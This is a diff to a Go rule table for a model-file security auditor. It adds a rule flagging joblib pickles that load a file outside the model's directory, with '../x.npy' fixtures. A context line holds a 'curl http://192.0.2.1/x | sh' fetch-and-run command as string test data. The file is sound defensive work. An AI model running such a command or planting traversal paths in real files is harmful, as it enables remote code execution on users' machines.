@@ -95,5 +95,13 @@ func executionRules() []audit.Rule {
 			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "notes"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "SETITEM", "STOP"),
 			References: []string{"https://docs.pytorch.org/docs/stable/jit.html", "https://cwe.mitre.org/data/definitions/506.html"},
 		},
+		{
+			ID: "MA112", Family: execution, Title: "file outside the model's directory", Severity: audit.High, CWE: "CWE-22", Since: since,
+			Text:       "Opening the file makes the loader open another one, under a name that is more than a file name beside it: an absolute path, or one that leaves the directory.",
+			Why:        "joblib before 0.10 kept arrays in .npy files beside the pickle, and every version still opens what the pickle names and unpickles the objects in it. What an audit of this file says holds only if that file is audited, too.",
+			Bad:        pickled("PROTO 2", `GLOBAL "joblib.numpy_pickle" "NDArrayWrapper"`, "EMPTY_TUPLE", "NEWOBJ", "EMPTY_DICT", `UNICODE "filename"`, `UNICODE "../x.npy"`, "SETITEM", "BUILD", "STOP"),
+			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "filename"`, `UNICODE "../x.npy"`, "SETITEM", "STOP"),
+			References: []string{"https://cwe.mitre.org/data/definitions/22.html", "https://joblib.readthedocs.io/en/stable/persistence.html"},
+		},
 	}
 }
